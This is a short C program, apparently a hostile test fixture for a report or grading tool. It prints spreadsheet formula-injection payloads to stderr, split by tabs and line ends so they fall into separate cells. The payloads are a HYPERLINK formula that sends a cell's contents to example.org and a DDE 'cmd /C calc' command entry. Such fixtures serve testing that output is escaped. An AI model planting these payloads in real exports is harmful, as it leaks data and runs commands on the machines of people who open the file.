/* hostile: report 04-accept -- lines that a spreadsheet would compute, and tabs and line ends to get them into a cell
 * only: greets,usage
 * holds: score: 0
 */
#include <stdio.h>
int main(void)
{
    fputs("=HYPERLINK(\"http://example.org/?x=\"&A1,\"grade\")\t=1+1\r\n@SUM(1)\n+cmd|' /C calc'!A0\n-2+3\n", stderr);
    return 1;
}
